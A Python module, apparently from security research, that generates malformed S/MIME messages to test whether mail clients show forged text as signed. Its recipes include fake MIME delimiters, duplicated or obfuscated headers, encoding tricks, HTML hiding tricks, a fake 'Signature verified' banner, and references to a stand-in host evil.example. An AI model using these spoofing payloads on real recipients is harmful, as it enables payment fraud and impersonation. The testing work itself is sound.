"""Attacks on the MIME structure: what readers of a signed mail show differently (RFC 1847, 2045, 2046, RFC 8551 3)."""
from attack_parts import *

BAD_HEADER = b"Content-Type: text/plain; charset=us-ascii\r\n\r\n"


def media(text):
    return clear(media=text)


def boundary(parameter, real=BOUNDARY, alias=b"zz"):
    """The boundary as it is written, as it is meant, and as some reader takes it."""
    start = b'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; '
    return clear(media=start + parameter, boundary=real,
                 preamble=b"--" + alias + b"\r\n" + FORGED + b"--" + alias + b"--\r\n")


def before(line):
    """Forged text in the preamble, behind a line that some reader takes for a delimiter."""
    return clear(preamble=line + b"\r\n" + FORGED)


def behind(line):
    return clear(epilogue=line + b"\r\n" + FORGED)


def header(field):
    return clear(header=head(extra=field))


def in_lf_header(preamble, last=b"\n\n"):
    """The header of the message ends its lines with LF alone, what follows with CRLF."""
    fields, rest = clear(preamble=preamble).split(b"\r\n\r\n", 1)
    return fields.replace(b"\r\n", b"\n") + last + rest


GOES_ON = b"Dear reader:\r\nFrom: boss@example.com\r\nContent-Type: text/html\r\n\r\n<p>Pay Mallory.\r\n"


def without_header(line):
    """A line that some reader takes for a delimiter, and behind it text that is no header."""
    return clear(preamble=line + b"\r\nDear Carol\r\nplease pay 99999 to Mallory.\r\n\r\nYours\r\n")


def encoding(value, octets=None):
    """The signature part under another transfer encoding."""
    def part(cms):
        return (b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: " + value + b"\r\n\r\n"
                + (octets(cms) if octets else base64_text(cms)))
    return clear(signature=part)


def in_base64(change):
    return encoding(b"base64", lambda cms: change(base64_text(cms)))


def quoted_printable(cms, change=lambda text: text):
    text = b"".join(b"=%02X" % octet for octet in cms)
    return change(b"".join(text[at:at + 72] + b"=\r\n" for at in range(0, len(text), 72)))


def uuencoded(octets):
    lines = [octets[at:at + 45] for at in range(0, len(octets), 45)]
    import binascii
    return b"begin 644 smime.p7s\r\n" + b"".join(binascii.b2a_uu(line).replace(b"\n", b"\r\n") for line in lines) \
        + b"`\r\nend\r\n"


def part(fields, body=TEXT):
    return clear(part=fields + b"\r\n\r\n" + body)


def html(body):
    return part(b"Content-Type: text/html; charset=us-ascii", body + b"\r\n")


def plain(text=FORGED_TEXT):
    return BAD_HEADER + text


def ends(change):
    """Signed with CRLF, stored with other line ends; nothing of it may be repaired."""
    good = clear()
    return good.replace(PART, change(PART))


def signature_of(kind):
    """The signature part under another media type."""
    return clear(signature=lambda cms: signature_part(cms).replace(b'application/pkcs7-signature; name="smime.p7s"', kind))


IRREGULAR = b"Content-Type: text/plain; charset=us-ascii; charset=utf-8\r\n\r\n" + TEXT
IRREGULAR_INSIDE = mixed(PART, IRREGULAR, header=b"")

SIGNED_ALTERNATIVE = b"Content-Type: text/html; charset=us-ascii\r\n\r\n<p>Dear Carol, please pay 99999 to Mallory.</p>\r\n"

RECIPES = {
    # M1 to M4: a good signature over a part
    "part-after-text": lambda: mixed(plain(), entity()),
    "part-before-text": lambda: mixed(entity(), plain()),
    "part-hidden-by-style": lambda: mixed(
        b"Content-Type: text/html\r\n\r\n<p>Pay 99999 to Mallory.<div style=\"display:none\"><plaintext>", entity()),
    "part-by-reference": lambda: mixed(
        b"Content-Type: text/html\r\n\r\n<p>Pay 99999 to Mallory.<img src=\"cid:signed\">\r\n",
        b"Content-ID: <signed>\r\n" + entity(), media=b"multipart/related"),
    "part-attached": lambda: mixed(plain(), b"Content-Disposition: attachment; filename=old.eml\r\n" + entity()),
    "part-as-alternative": lambda: mixed(entity(), SIGNED_ALTERNATIVE, media=b"multipart/alternative"),
    "part-in-message": lambda: mixed(plain(), b"Content-Type: message/rfc822\r\n\r\n" + clear()),
    "root-is-message": lambda: head(b"Boss <boss@example.com>") + b"Content-Type: message/rfc822\r\n\r\n" + clear(),
    "root-is-message-of-boss": lambda: head() + b"Content-Type: message/rfc822\r\n\r\n" + clear(header=head(
        b"Boss <boss@example.com>")),
    "part-opaque": lambda: mixed(plain(), opaque(header=b"")),
    "part-opaque-with-text-after": lambda: mixed(opaque(header=b""), plain()),
    "only-part-of-mixed": lambda: mixed(entity()),
    "part-in-report": lambda: mixed(plain(), entity(), media=b"multipart/report; report-type=delivery-status"),
    "part-external-body": lambda: mixed(
        plain(), b"Content-Type: message/external-body; access-type=URL; URL=\"http://evil.example/\"\r\n\r\n" + entity()),
    "part-partial": lambda: head() + b"Content-Type: message/partial; id=1; number=1; total=1\r\n\r\n" + clear(),
    # Number and order of parts
    "one-part": lambda: clear().replace(b"\r\n--b0und\r\nContent-Type: application", b"\r\nContent-Type: application"),
    "three-parts-text-last": lambda: clear(signature=lambda cms: signature_part(cms) + b"\r\n--b0und\r\n" + plain()),
    "three-parts-text-first": lambda: clear(preamble=b"--b0und\r\n" + plain()),
    "three-parts-text-between": lambda: clear(between=plain() + b"\r\n--b0und\r\n"),
    "two-signature-parts": lambda: clear(signature=lambda cms: signature_part(cms) + b"\r\n--b0und\r\n"
                                         + signature_part(cms)),
    "parts-swapped": lambda: head() + b"Content-Type: " + MEDIA + b"\r\n\r\n--b0und\r\n" + signature_part(
        signed(info())) + b"\r\n--b0und\r\n" + PART + b"\r\n--b0und--\r\n",
    "first-part-empty": lambda: clear(preamble=b"--b0und\r\n"),
    "no-close": lambda: clear(close=False),
    "no-close-and-text": lambda: clear(close=False, epilogue=b"\r\n--b0un\r\n" + plain()),
    # Lines that some reader takes for delimiters
    "delimiter-after-form-feed": lambda: before(b"\x0c--b0und"),
    "delimiter-after-blank": lambda: before(b" --b0und"),
    "delimiter-after-tab": lambda: before(b"\t--b0und"),
    "delimiter-after-no-break-space": lambda: before(b"\xc2\xa0--b0und"),
    "delimiter-after-quote-mark": lambda: before(b"> --b0und"),
    "delimiter-after-nul": lambda: before(b"\0--b0und"),
    "delimiter-in-capitals": lambda: before(b"--B0UND"),
    "delimiter-in-capitals-behind": lambda: behind(b"--B0UND"),
    "delimiter-with-three-hyphens": lambda: before(b"---b0und"),
    "delimiter-with-one-hyphen": lambda: before(b"-b0und"),
    "delimiter-with-dashes": lambda: before("\u2013b0und".encode()),
    "delimiter-nul-behind": lambda: before(b"--b0und\0"),
    "delimiter-form-feed-behind": lambda: before(b"--b0und\x0c"),
    "delimiter-comment-behind": lambda: before(b"--b0und (x)"),
    "delimiter-semicolon-behind": lambda: before(b"--b0und;"),
    "delimiter-close-first": lambda: before(b"--b0und--\r\n--b0und"),
    "delimiter-blanks-and-text": lambda: before(b"--b0und  x"),
    "delimiter-at-column-1022": lambda: clear(preamble=b"x" * 1022 + b"--b0und\r\n" + FORGED),
    "delimiter-at-column-1023": lambda: clear(preamble=b"x" * 1023 + b"--b0und\r\n" + FORGED),
    "delimiter-at-column-998": lambda: clear(preamble=b"x" * 998 + b"--b0und\r\n" + FORGED),
    "delimiter-after-line-separator": lambda: before("x\u2028--b0und".encode()),
    "delimiter-after-vertical-tab": lambda: before(b"x\x0b--b0und"),
    "delimiter-in-capitals-in-signed-text": lambda: clear(part=PART + b"--B0UND\r\n" + FORGED),
    "delimiter-after-blank-without-header": lambda: before(b" --b0und is the boundary"),
    "delimiter-without-header-after-blank": lambda: without_header(b" --b0und"),
    "delimiter-without-header-at-column-1023": lambda: without_header(b"x" * 1023 + b"--b0und"),
    "delimiter-without-header-vertical-tab-behind": lambda: without_header(b"--b0und\x0b"),
    "delimiter-without-header-form-feed-behind": lambda: without_header(b"--b0und\x0c "),
    "delimiter-without-header-nul-behind": lambda: without_header(b"--b0und\0and more"),
    "delimiter-without-header-close": lambda: clear(epilogue=b"\r\nx--b0und--\r\nPay 99999 to Mallory.\r\n"),
    "boundary-begins-inner-boundary": lambda: clear(part=mixed(PART, header=b"").replace(b"0uter", b"b0under")),
    # The boundary as it is written
    "boundary-in-apostrophes": lambda: boundary(b"boundary='aB'", b"'aB'", b"aB"),
    "boundary-in-quoted-apostrophes": lambda: boundary(b"boundary=\"'aB'\"", b"'aB'", b"aB"),
    "boundary-with-one-apostrophe": lambda: boundary(b"boundary=\"a'B\"", b"a'B"),
    "boundary-twice": lambda: boundary(b"boundary=b0und; boundary=zz"),
    "boundary-twice-first-other": lambda: boundary(b"boundary=zz; boundary=b0und"),
    "boundary-twice-and-equal": lambda: boundary(b"boundary=b0und; BOUNDARY=b0und"),
    "boundary-without-semicolon": lambda: media(MEDIA.replace(b"; boundary", b" boundary")),
    "boundary-with-blank-before-equals": lambda: boundary(b"boundary =b0und"),
    "boundary-after-comma": lambda: media(MEDIA.replace(b"; boundary", b", boundary")),
    "boundary-ends-with-blank": lambda: boundary(b'boundary="b0und "', BOUNDARY),
    "boundary-of-71": lambda: boundary(b'boundary="' + b"x" * 71 + b'"', b"x" * 71, b"x" * 70),
    "boundary-with-quote-left-open": lambda: media(MEDIA[:-1]),
    "boundary-in-an-encoded-word": lambda: boundary(b'boundary="=?utf-8?q?zz?="', b"=?utf-8?q?zz?="),
    "boundary-with-eight-bit": lambda: boundary(b'boundary="b\xc3\xa4"', b"b\xc3\xa4", b"b\xe4"),
    "boundary-rfc2231-and-plain": lambda: boundary(b"boundary=b0und; boundary*=us-ascii''zz"),
    "boundary-rfc2231-in-pieces": lambda: boundary(b"boundary*0=b0; boundary*1=und"),
    "boundary-used-again": lambda: mixed(plain(), entity()).replace(b"0uter", BOUNDARY),
    "boundary-with-at": lambda: boundary(b'boundary="b0@und"', b"b0@und"),
    "boundary-with-equals-unquoted": lambda: boundary(b"boundary=----=_Part_1.2", b"----=_Part_1.2"),
    "boundary-with-bracket-unquoted": lambda: boundary(b"boundary=b0[und]", b"b0[und]"),
    "boundary-of-close": lambda: boundary(b'boundary="b0und--"', b"b0und--", b"b0und"),
    # Fields that decide
    "type-twice": lambda: header(b"Content-Type: text/html\r\n"),
    "type-twice-behind": lambda: clear(media=MEDIA + b"\r\nContent-Type: text/html"),
    "type-folded-before-colon": lambda: clear().replace(b"Content-Type: multipart", b"Content-Type\r\n : multipart"),
    "type-blank-before-colon": lambda: clear().replace(b"Content-Type: multipart", b"Content-Type : multipart"),
    "type-with-comment": lambda: media(b"multipart(text)/signed(html)" + MEDIA[16:]),
    "type-with-comment-hiding-parameter": lambda: media(MEDIA.replace(b"; boundary", b' (; boundary="zz"); boundary')),
    "type-behind-question-mark": lambda: media(b"=?x?q?" + MEDIA),
    "type-behind-question-mark-whole-word": lambda: media(b"=?utf-8?q?multipart/signed?=" + MEDIA[16:]),
    "type-with-nul": lambda: media(MEDIA.replace(b"signed;", b"signed\0;")),
    "type-with-vertical-tab": lambda: media(b"\x0b" + MEDIA),
    "type-in-quotes": lambda: media(b'"multipart/signed"' + MEDIA[16:]),
    "type-with-blanks-around-slash": lambda: media(b"multipart / signed" + MEDIA[16:]),
    "type-with-text-behind": lambda: media(b"multipart/signed x" + MEDIA[16:]),
    "type-in-capitals": lambda: media(b"MULTIPART/SIGNED" + MEDIA[16:]),
    "type-empty-then-type": lambda: header(b"Content-Type:\r\n"),
    "header-of-two-ends": lambda: header(b"X-A: b\n\nX-C: d\r\n"),
    "header-of-two-ends-opaque": lambda: opaque(header=head(extra=b"X-A: b\n\nX-C: d\r\n")),
    "type-after-empty-line-of-blanks": lambda: header(b"X-A: b\r\n \t\r\n"),
    "nul-before-type": lambda: header(b"X-A: b\0c\r\n"),
    "nul-in-subject-before-type": lambda: clear(header=head(subject=b"Subject: offer\0\r\n")),
    "nul-before-from": lambda: clear(header=b"X-A: b\0c\r\n" + head(), media=MEDIA),
    "nul-before-type-opaque": lambda: opaque(header=head(extra=b"X-A: b\0c\r\n")),
    "nul-behind-type": lambda: media(MEDIA + b"\r\nX-A: b\0c"),
    "field-behind-a-blank": lambda: clear(header=b" X-A: b\r\n" + head()),
    "field-with-blank-before-colon": lambda: header(b"X-A : b\r\n"),
    "field-with-blank-before-colon-behind": lambda: media(MEDIA + b"\r\nX-A : b"),
    "field-with-letter-and-blank-before-colon": lambda: header(b"X-A :\r\n Dear Carol,\r\n please pay 99999 to Mallory.\r\n"),
    "field-named-in-an-encoded-word": lambda: header(b"=?utf-8?q?From?=: boss@example.com\r\n"),
    "first-line-from-the-desk": lambda: b"From the desk of Boss, please pay 99999 to Mallory\r\n" + clear(),
    "first-line-separator": lambda: b"From alice@example.com Sat Jan 10 09:00:00 2026\r\n" + clear(),
    "irregular-part-inside": lambda: clear(part=mixed(
        PART, b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-none\r\n\r\nmore", header=b"")),
    "irregular-part-inside-opaque": lambda: opaque(signed(info(IRREGULAR_INSIDE), content=IRREGULAR_INSIDE)),
    "irregular-header-inside-opaque": lambda: opaque(signed(info(IRREGULAR), content=IRREGULAR)),
    "version-missing": lambda: clear(header=head().replace(b"MIME-Version: 1.0\r\n", b"")),
    "version-twice-and-differing": lambda: header(b"MIME-Version: 2.0\r\n"),
    "type-with-blank-before-semicolon": lambda: media(MEDIA.replace(b"signed;", b"signed \t;")),
    "protocol-unquoted": lambda: media(MEDIA.replace(b'"application/pkcs7-signature"', b"application/pkcs7-signature")),
    "version-twice": lambda: header(b"MIME-Version: 1.0\r\n"),
    "protocol-other": lambda: media(MEDIA.replace(b"pkcs7-signature", b"pgp-signature")),
    "signature-as-octet-stream": lambda: signature_of(b"application/octet-stream; name=smime.p7s"),
    "signature-as-octet-stream-named-p7m": lambda: signature_of(b"application/octet-stream; name=smime.p7m"),
    "protocol-missing": lambda: media(MEDIA.replace(b'protocol="application/pkcs7-signature"; ', b"")),
    "protocol-twice": lambda: media(MEDIA + b'; protocol="application/pgp-signature"'),
    "micalg-other": lambda: media(MEDIA.replace(b"sha-256", b"md5")),
    "charset-outside": lambda: media(MEDIA + b"; charset=utf-7"),
    # Transfer encodings
    "multipart-in-base64": lambda: header(b"Content-Transfer-Encoding: base64\r\n"),
    "multipart-in-quoted-printable": lambda: header(b"Content-Transfer-Encoding: quoted-printable\r\n"),
    "encoding-unknown-outside": lambda: header(b"Content-Transfer-Encoding: x-none\r\n"),
    "encoding-twice": lambda: encoding(b"base64\r\nContent-Transfer-Encoding: 7bit"),
    "encoding-with-text-behind": lambda: encoding(b"base64 7bit"),
    "encoding-with-semicolon": lambda: encoding(b"base64;"),
    "encoding-with-token-behind-comment": lambda: encoding(b"base64 (7bit) 7bit"),
    "encoding-with-open-comment": lambda: encoding(b"base64 (7bit"),
    "encoding-of-multipart-behind-comment": lambda: clear(header=head(extra=b"Content-Transfer-Encoding: 7bit (x) base64\r\n")),
    "header-goes-on-in-preamble": lambda: in_lf_header(GOES_ON),
    "header-of-lf-ended-by-crlf-goes-on": lambda: in_lf_header(GOES_ON, b"\n\r\n"),
    "header-last-line-of-lf": lambda: clear(preamble=GOES_ON).replace(b"\r\n\r\n", b"\n\r\n", 1),
    "header-of-lf-ended-by-crlf": lambda: in_lf_header(b"This is an S/MIME signed message\r\n\r\n", b"\n\r\n"),
    "header-of-lf-around-crlf": lambda: in_lf_header(b"This is an S/MIME signed message\r\n\r\n"),
    "encoding-with-comment": lambda: encoding(b"(7bit) base64"),
    "encoding-with-comment-behind": lambda: encoding(b"base64 (7bit)"),
    "encoding-in-quotes": lambda: encoding(b'"base64"'),
    "encoding-in-capitals": lambda: encoding(b"BASE64"),
    "encoding-x-uuencode": lambda: encoding(b"x-uuencode", uuencoded),
    "encoding-uuencode-as-7bit": lambda: encoding(b"7bit", uuencoded),
    "encoding-x-yenc": lambda: encoding(b"x-yenc", lambda cms: bytes((octet + 42) % 256 for octet in cms)),
    "encoding-missing": lambda: clear(signature=lambda cms: b"Content-Type: application/pkcs7-signature\r\n\r\n"
                                      + base64_text(cms)),
    "encoding-binary": lambda: encoding(b"binary", lambda cms: cms),
    "encoding-quoted-printable": lambda: encoding(b"quoted-printable", quoted_printable),
    "base64-junk-inside": lambda: in_base64(lambda text: text[:40] + b"!*" + text[40:]),
    "base64-padding-inside": lambda: in_base64(lambda text: text[:40] + b"=" + text[40:]),
    "base64-text-behind-padding": lambda: in_base64(lambda text: text.rstrip(b"=\r\n") + b"==\r\nQUJD\r\n"),
    "base64-without-padding": lambda: in_base64(lambda text: text.replace(b"=", b"")),
    "base64-too-much-padding": lambda: in_base64(lambda text: text.rstrip(b"=\r\n") + b"====\r\n"),
    "base64-url-alphabet": lambda: in_base64(lambda text: text.replace(b"+", b"-").replace(b"/", b"_")),
    "base64-nul-inside": lambda: in_base64(lambda text: text[:40] + b"\0" + text[40:]),
    "base64-armour-inside": lambda: in_base64(
        lambda text: b"-----BEGIN PKCS7-----\r\n" + text + b"-----END PKCS7-----\r\n"),
    "base64-one-line": lambda: in_base64(lambda text: text.replace(b"\r\n", b"") + b"\r\n"),
    "base64-blank-lines": lambda: in_base64(lambda text: text.replace(b"\r\n", b"\r\n\r\n")),
    "quoted-printable-lower-case": lambda: encoding(b"quoted-printable", lambda cms: quoted_printable(cms, bytes.lower)),
    "quoted-printable-no-digits": lambda: encoding(b"quoted-printable", lambda cms: b"=XY" + quoted_printable(cms)),
    "quoted-printable-blank-before-line-end": lambda: encoding(
        b"quoted-printable", lambda cms: quoted_printable(cms, lambda text: text.replace(b"=\r\n", b"= \r\n"))),
    "quoted-printable-ends-in-escape": lambda: encoding(
        b"quoted-printable", lambda cms: quoted_printable(cms).rstrip(b"=\r\n") + b"="),
    # Line ends
    "ends-cr": lambda: ends(lambda text: text.replace(b"\r\n", b"\r")),
    "ends-cr-cr-lf": lambda: ends(lambda text: text.replace(b"\r\n", b"\r\r\n")),
    "ends-mixed": lambda: ends(lambda text: text.replace(b"\r\n", b"\n", 1)),
    "ends-blank-added": lambda: ends(lambda text: text.replace(b"Alice.\r\n", b"Alice. \r\n")),
    "ends-nul-added": lambda: ends(lambda text: text.replace(b"Alice.", b"Alice.\0")),
    "ends-lf-whole-mail": lambda: clear().replace(b"\r\n", b"\n"),
    "ends-lf-around-signed-part": lambda: clear().replace(b"\r\n", b"\n").replace(
        PART.replace(b"\r\n", b"\n"), PART),
    "signed-nul": lambda: part(b"Content-Type: text/plain", b"pay 1000\0 to Mallory\r\n"),
    "signed-bare-cr": lambda: part(b"Content-Type: text/plain", b"pay 99999 to Mallory\rpay 1000 to Alice  \r\n"),
    # What the signer signed, and clients show differently
    "shown-utf-7": lambda: part(b"Content-Type: text/plain; charset=utf-7", b"pay +ADkAOQA5ADkAOQ- to Mallory\r\n"),
    "shown-utf-16": lambda: part(b"Content-Type: text/plain; charset=utf-16le", "pay 1000".encode("utf-16-le") + b"\r\n"),
    "shown-iso-2022": lambda: part(b"Content-Type: text/plain; charset=iso-2022-jp", b"\x1b$B$\"\x1b(B\r\n"),
    "shown-charset-unknown": lambda: part(b"Content-Type: text/plain; charset=x-secret"),
    "shown-utf-8": lambda: part(b"Content-Type: text/plain; charset=utf-8"),
    "shown-uuencoded": lambda: part(b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode", uuencoded(TEXT)),
    "shown-tnef": lambda: part(b"Content-Type: application/ms-tnef; name=winmail.dat\r\n"
                               b"Content-Transfer-Encoding: base64", base64_text(b"\x78\x9f\x3e\x22\1\0")),
    "shown-html-plain": lambda: html(b"<p>Dear Carol, please pay 1000 to Alice.</p>"),
    "shown-html-remote": lambda: html(b"<p>Pay <img src=\"http://evil.example/sum.png\"> to Alice.</p>"),
    "shown-html-style": lambda: html(
        b"<style>.a{display:none} @media (min-width: 1px) {.a{display:block} .b{display:none}}</style>"
        b"<p class=a>Pay 99999 to Mallory.<p class=b>Pay 1000 to Alice."),
    "shown-html-conditional-comment": lambda: html(b"<!--[if mso]><p>Pay 99999 to Mallory.<![endif]--><p>Pay 1000."),
    "shown-html-style-in-base64": lambda: part(
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64",
        base64_text(b"<style>@media print {p{display:none}}</style><p>Pay 99999 to Mallory.")),
    "shown-html-script": lambda: html(b"<script>document.write('Pay 99999 to Mallory.')</script>"),
    "shown-alternatives": lambda: clear(part=mixed(PART, SIGNED_ALTERNATIVE, media=b"multipart/alternative", header=b"")),
    # Other forms
    "plain-text-that-looks-signed": lambda: head() + BAD_HEADER + b"[Signature verified: alice@example.com]\r\n"
                                    b"\x1b[32mvalid\x1b[0m\r\n",
    "tnef-whole": lambda: head() + b"Content-Type: application/ms-tnef; name=winmail.dat\r\n"
                          b"Content-Transfer-Encoding: base64\r\n\r\n" + base64_text(b"\x78\x9f\x3e\x22\1\0"),
    "opaque-as-octet-stream": lambda: opaque(media=b"application/octet-stream; name=smime.p7m"),
    "opaque-in-quoted-printable": lambda: opaque(encoding=b"quoted-printable", body=quoted_printable(
        signed(info(), content=PART))),
    "opaque-in-binary": lambda: opaque(encoding=b"binary", body=signed(info(), content=PART)),
    "opaque-content-without-type": lambda: opaque(signed(info(TEXT), content=TEXT)),
    "opaque-content-empty": lambda: opaque(signed(info(b""), content=b"")),
    "opaque-detached": lambda: opaque(signed(info())),
    "opaque-beside-text": lambda: opaque().replace(b"\r\n\r\n", b"\r\n\r\nDear Carol, please pay 99999 to Mallory.\r\n", 1),
}
